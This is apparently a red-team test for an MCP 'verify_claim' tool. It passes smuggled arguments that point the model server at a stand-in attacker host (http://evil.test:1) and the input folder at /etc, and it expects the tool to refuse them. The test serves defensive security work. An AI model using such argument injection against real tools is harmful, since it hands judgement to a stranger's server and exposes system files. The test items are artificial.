"""A client of MCP sends settings among its arguments."""

from redteam.callers import mcp_call
from redteam.place import Place

CLAIM = "A stranger's server judges."
TRICK = "Arguments name a model server, a rule and a folder."
MUST_NOT_BE = ("SUPPORTED", "UNSUPPORTED", "INCONCLUSIVE")
TWIN = "No such arguments."
MUST_BE = "SUPPORTED"

SETTINGS = {"settings": {"model.base_url": "http://evil.test:1"}, "input_dir": "/etc", "work_dir": "/tmp/x"}


def attack(place: Place) -> str:
    words = {
        str(
            mcp_call(place, "verify_claim", thesis="Members may vote by hand.", **{name: value}).get("result")
        )
        for name, value in SETTINGS.items()
    }
    return next((word for word in words if word in MUST_NOT_BE), "REFUSED")


def twin(place: Place) -> str:
    return str(mcp_call(place, "verify_claim", thesis="Members may vote by hand.").get("result"))
